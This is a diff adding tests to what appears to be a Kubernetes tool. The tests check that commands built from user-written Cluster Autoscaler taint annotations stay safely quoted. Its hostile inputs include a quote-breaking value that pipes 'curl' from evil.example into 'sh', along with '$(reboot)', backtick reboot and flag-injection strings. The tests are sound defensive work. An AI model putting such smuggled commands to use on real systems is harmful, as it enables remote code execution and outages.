@@ -420,13 +420,42 @@ describe('machines that Cluster Autoscaler starts where there are none', () => {
     expect(viewMachines(object, kind)).toBeUndefined();
   });
 
+  it('get a command without shell code from the annotation that another user wrote', () => {
+    const hostile = [
+      "x';curl$IFS//evil.example|sh;'y:NoSchedule",
+      '$(reboot)=a:NoSchedule',
+      'a=`reboot`:NoSchedule',
+      "a='b:NoExecute",
+      '-o=yaml:NoSchedule',
+    ];
+    const pool = viewMachines(machines({ [TAINTS]: [...hostile, 'a=b:NoExecute'].join() })) as NodePool;
+    expect(pool.taints?.map(formatTaint)).toEqual(['a=b:NoExecute']);
+    expect(howToDeclare(pool, [{ taint: GPU, list: 'taints' }])).toBe(
+      'to declare it: kubectl annotate --overwrite machinedeployment.cluster.x-k8s.io workers --namespace clusters capacity.cluster-autoscaler.kubernetes.io/taints=a=b:NoExecute,dedicated=gpu:NoSchedule',
+    );
+  });
+
+  it('get a command that quotes whatever an object has', () => {
+    const code = "x';reboot;'";
+    const hostile = [{ key: code, effect: 'NoSchedule' }];
+    const pools = [
+      { ...(viewMachines(machines()) as NodePool), taints: hostile },
+      viewKarpenterPool(nodePool({ taints: hostile })) as NodePool,
+    ];
+    for (const pool of pools) {
+      const command = howToDeclare(pool, [{ taint: { key: code, value: code, effect: 'NoSchedule' }, list: 'taints' }]);
+      // Nothing of it is outside of quotes.
+      expect(command.replaceAll("'\\''", '').replaceAll(/'[^']*'/g, 'WORD')).not.toContain('reboot');
+    }
+  });
+
   it('are annotated with what they lack besides what they have', () => {
     const pool = viewMachines(
       machines({ [TAINTS]: 'a=b:NoExecute,dedicated=cpu:NoSchedule' }),
       'MachineSet',
     ) as NodePool;
     expect(howToDeclare(pool, [{ taint: GPU, list: 'taints' }])).toBe(
-      "to declare it: kubectl annotate --overwrite machineset.cluster.x-k8s.io workers --namespace clusters 'capacity.cluster-autoscaler.kubernetes.io/taints=a=b:NoExecute,dedicated=gpu:NoSchedule'",
+      'to declare it: kubectl annotate --overwrite machineset.cluster.x-k8s.io workers --namespace clusters capacity.cluster-autoscaler.kubernetes.io/taints=a=b:NoExecute,dedicated=gpu:NoSchedule',
     );
     expect(lackText(pool, undeclared(pool, spec()))).toMatch(
       /^MachineSet clusters\/workers does not declare .*Cluster Autoscaler/,
